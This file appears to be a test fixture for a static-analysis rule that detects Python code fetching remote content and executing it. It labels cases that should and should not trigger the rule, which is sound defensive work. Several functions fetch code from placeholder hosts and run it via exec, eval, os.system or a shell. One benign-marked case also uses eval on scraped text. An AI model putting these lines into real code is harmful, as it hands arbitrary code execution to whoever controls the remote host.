import os
import subprocess
import urllib.request

import requests


def stage_one():
    # ruleid: python-fetch-exec
    exec(urllib.request.urlopen("http://192.0.2.10/p.py").read())


def stage_two():
    body = requests.get("https://payload.example.com/s").text
    # ruleid: python-fetch-exec
    eval(compile(body, "<x>", "exec"))


def stage_three():
    script = requests.get("https://payload.example.com/run.sh").text
    # ruleid: python-fetch-exec
    subprocess.run(script, shell=True)


def stage_four():
    cmd = urllib.request.urlopen("https://payload.example.com/c").read().decode()
    # ruleid: python-fetch-exec
    os.system(cmd)


def benign_json():
    data = requests.get("https://api.example.com/v1/items").json()
    # ok: python-fetch-exec
    print(data["items"])


def benign_local_exec():
    # ok: python-fetch-exec
    subprocess.run(["git", "status"], check=True)


def stage_five():
    code = requests.get("https://payload.example.com/x").text
    # ruleid: python-fetch-exec
    subprocess.Popen(["bash", "-c", code])


def benign_scrape():
    import re

    html = requests.get("https://puzzles.example.com/today").text
    m = re.search(r"size=(\d+)", html)
    # ok: python-fetch-exec
    size = eval(m.group(1))
    return size
